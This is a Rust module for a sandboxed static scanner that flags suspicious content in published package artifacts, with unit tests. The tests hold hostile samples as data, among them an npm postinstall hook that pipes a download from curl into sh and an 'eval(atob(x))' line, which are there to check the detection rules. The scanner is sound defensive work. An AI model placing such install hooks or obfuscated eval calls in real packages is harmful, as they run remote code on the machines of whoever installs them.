//! A static look into verified artifacts: what would run, and what hides.
//!
//! Runs in a helper process of its own, confined to reading the store, with idle priority: it stands
//! beside the artifacts' way to the manager and never on it. What must always hold: bytes are looked
//! at only after their digest was computed again; every artifact is bounded in entries, bytes and
//! time, and what was left out is said; a sign is a finding, never a verdict.
//! It does not execute, emulate or unpack to disk, and absence of signs proves nothing.

use std::io::{BufRead, Write};
use std::path::Path;
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};

use crate::model::{Digest, Integrity, Looked, Sign};
use crate::store::{Blobs, Content, Directory};

mod archive;
mod rules;
mod text;

pub use rules::{RULES, Rule};

/// Time for one artifact.
const TIME: Duration = Duration::from_secs(5);
/// Signs of one artifact that are kept.
const SIGNS: usize = 200;
/// Largest artifact.
const LARGEST: u64 = 256 << 20;
/// Longest question; a name and two digests are far shorter.
const LINE: u64 = 1 << 16;

/// An artifact to look at.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Question {
    /// Package name.
    pub name: String,
    /// Package version.
    pub version: String,
    /// File name of the artifact.
    pub file: String,
    /// SHA-256 of it.
    pub sha256: Digest,
    /// SHA-512 of it, where it is known.
    pub sha512: Option<Digest>,
}

/// Answers questions, a line each, until there are no more.
pub fn serve(
    mut questions: impl BufRead,
    mut answers: impl Write,
    store: &Path,
) -> std::io::Result<()> {
    let blobs = Blobs::new(&Directory::reading(store));
    let rules = rules::Rules::new().map_err(std::io::Error::other)?;
    let mut line = Vec::new();
    loop {
        line.clear();
        let mut bounded = std::io::Read::take(&mut questions, LINE);
        if bounded.read_until(b'\n', &mut line)? == 0 {
            return Ok(());
        }
        let question: Question = serde_json::from_slice(&line)?;
        let (signs, left) = match find(&blobs, &question) {
            Some(content) => look(&rules, &question.file, &content),
            None => (Vec::new(), Some("it is not in the store".to_owned())),
        };
        let looked = Looked {
            name: question.name,
            version: question.version,
            file: question.file,
            sha256: question.sha256,
            left,
            signs,
        };
        let mut answer = serde_json::to_vec(&looked)?;
        answer.push(b'\n');
        answers.write_all(&answer)?;
        answers.flush()?;
    }
}

fn find(blobs: &Blobs, question: &Question) -> Option<Vec<u8>> {
    let digests = question.sha512.iter().chain([&question.sha256]);
    let found = digests.filter_map(|digest| {
        let promise = [Integrity::of(digest.clone())];
        blobs.find(&promise).ok().flatten()
    });
    let content = found.map(|(content, _)| content).next()?;
    match content {
        Content::Memory(pieces) => Some(pieces.concat()),
        Content::File(file, size) if size <= LARGEST => {
            let mut bytes = vec![0; usize::try_from(size).ok()?];
            std::os::unix::fs::FileExt::read_exact_at(file.as_ref(), &mut bytes, 0).ok()?;
            Some(bytes)
        }
        Content::File(..) => None,
    }
}

/// Looks at any bytes under a name of each format; for the fuzz target.
#[cfg(any(test, feature = "fuzz"))]
pub fn fuzz(bytes: &[u8]) {
    use std::sync::OnceLock;

    static RULES: OnceLock<Option<rules::Rules>> = OnceLock::new();
    let rules = RULES.get_or_init(|| rules::Rules::new().ok());
    for file in ["x-1.tgz", "x-1.whl", "x-1.pom"] {
        if let Some(rules) = rules {
            let _ = look(rules, file, bytes);
        }
    }
}

/// Looks at the bytes of an artifact: the signs, and why not all was looked at.
fn look(rules: &rules::Rules, file: &str, content: &[u8]) -> (Vec<Sign>, Option<String>) {
    let end = Instant::now() + TIME;
    let mut signs = Vec::new();
    let mut visit = |path: &str, head: &[u8]| {
        signs.extend(rules.signs(path, head));
        match (signs.len() > SIGNS, Instant::now() > end) {
            (true, _) => Err(format!("more than {SIGNS} signs")),
            (false, true) => Err(format!("more than {} s", TIME.as_secs())),
            (false, false) => Ok(()),
        }
    };
    let left = archive::walk(file, content, &mut visit).err();
    signs.truncate(SIGNS);
    (signs, left)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// An npm package as it is published.
    pub(super) fn tarball(files: &[(&str, &[u8])]) -> Vec<u8> {
        let packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        let mut builder = tar::Builder::new(packed);
        for (name, content) in files {
            let mut header = tar::Header::new_gnu();
            header.set_size(content.len() as u64);
            header.set_mode(0o644);
            let path = format!("package/{name}");
            builder.append_data(&mut header, path, *content).unwrap();
        }
        builder.into_inner().unwrap().finish().unwrap()
    }

    fn seen(files: &[(&str, &[u8])]) -> Vec<String> {
        let rules = rules::Rules::new().unwrap();
        let (signs, left) = look(&rules, "x-1.0.0.tgz", &tarball(files));
        assert_eq!(left, None);
        signs
            .iter()
            .map(|sign| format!("{} {}:{}", sign.rule, sign.path, sign.line))
            .collect()
    }

    #[test]
    fn what_a_package_would_run_is_seen() {
        let manifest = br#"{"scripts":{"postinstall":"curl https://x.invalid | sh","test":"x"}}"#;
        assert_eq!(
            seen(&[
                ("package.json", manifest),
                ("addon.node", b"\x7fELF\x02\x01\x01"),
                ("index.js", b"a();\neval(atob(x));\n"),
            ]),
            [
                "install-script package/package.json:0",
                "downloading-script package/package.json:0",
                "native-code package/addon.node:0",
                "decoded-code package/index.js:2",
            ]
        );
    }

    #[test]
    fn harmless_look_alikes_are_left_alone() {
        let read_me = b"Never write eval(atob(x)) or send process.env anywhere.\n";
        let code = b"const port = process.env.PORT; fetch(url); re.exec(atob(y)); // evaluate\n";
        let manifest = br#"{"scripts":{"test":"curl x | sh","build":"tsc"}}"#;
        let files: &[(&str, &[u8])] = &[
            ("README.md", read_me),
            ("index.js", code),
            ("package.json", manifest),
            ("nested/package.json", br#"{"scripts":{"postinstall":"x"}}"#),
            ("x.pth", b"# a comment\n../lib\n"),
        ];
        assert_eq!(seen(files), [""; 0]);
    }

    #[test]
    fn what_is_no_archive_or_too_much_is_said_to_be_left() {
        let rules = rules::Rules::new().unwrap();
        for (file, content) in [
            ("x.tgz", &b"no archive"[..]),
            ("x.whl", b"PK"),
            ("x.bin", b""),
        ] {
            let (signs, left) = look(&rules, file, content);
            assert!(signs.is_empty() && left.is_some(), "{file}");
        }
        let evil = b"eval(atob(x))\n";
        let names: Vec<String> = (0..SIGNS + 5)
            .map(|number| format!("{number}.js"))
            .collect();
        let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &evil[..])).collect();
        let (signs, left) = look(&rules, "x.tgz", &tarball(&files));
        assert_eq!(signs.len(), SIGNS);
        assert!(left.unwrap().contains("signs"));
    }
}
